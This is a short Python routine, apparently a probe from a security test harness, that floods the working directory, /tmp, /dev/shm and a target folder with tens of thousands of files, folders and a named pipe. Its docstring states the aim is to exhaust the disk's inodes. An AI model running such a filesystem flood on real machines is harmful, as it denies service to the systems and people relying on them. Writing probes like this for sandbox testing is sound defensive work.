"""Makes more files and folders than anybody wants to delete.

Wants: a disk without inodes.
Evidence: loot; a file that changed.
Harmful: it makes tens of thousands of files.
"""
import os

for place in (".", "/tmp", "/dev/shm", TARGETS["drop"]):
    attempt("files", lambda: [open(os.path.join(place, f"hostile-{n}"), "w").close() for n in range(20_000)])
    attempt("folders", lambda: [os.mkdir(os.path.join(place, f"hostile-folder-{n}")) for n in range(20_000)])
    attempt("pipe", lambda: os.mkfifo(os.path.join(place, "hostile-pipe")) or "made")
